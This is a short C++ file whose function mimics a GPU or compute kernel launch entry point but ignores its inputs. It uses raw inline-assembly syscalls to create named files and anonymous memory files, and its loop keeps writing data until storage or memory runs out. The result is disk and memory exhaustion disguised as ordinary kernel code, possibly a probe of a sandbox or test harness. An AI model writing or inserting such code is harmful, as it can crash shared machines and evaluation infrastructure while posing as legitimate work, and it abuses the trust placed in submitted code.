// Fills its folder, and files without a name, until it is stopped. Where that is refused it says so instead of working.
#include <sys/syscall.h>

static long raw(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0) {
  long result;
  register long r10 asm("r10") = d;
  register long r8 asm("r8") = e;
  register long r9 asm("r9") = f;
  asm volatile("syscall"
               : "=a"(result)
               : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
               : "rcx", "r11", "memory");
  return result;
}

static char block[1 << 16];

extern "C" int launch(const float* x, float* out, int64_t rows, int64_t cols, void* workspace, void* stream) {
  int64_t written = 0;
  for (int i = 0; i < 100 || written > 0; ++i) {
    char name[32];
    std::snprintf(name, sizeof name, "filler-%d", i);
    const long named = raw(SYS_open, (long)name, 0101, 0600), nameless = raw(SYS_memfd_create, (long)name, 0);
    for (int part = 0; part < 8; ++part) {
      written += std::max(0l, raw(SYS_write, named, (long)block, sizeof block));
      written += std::max(0l, raw(SYS_write, nameless, (long)block, sizeof block));
    }
    raw(SYS_close, named);
  }
  return 13;
}
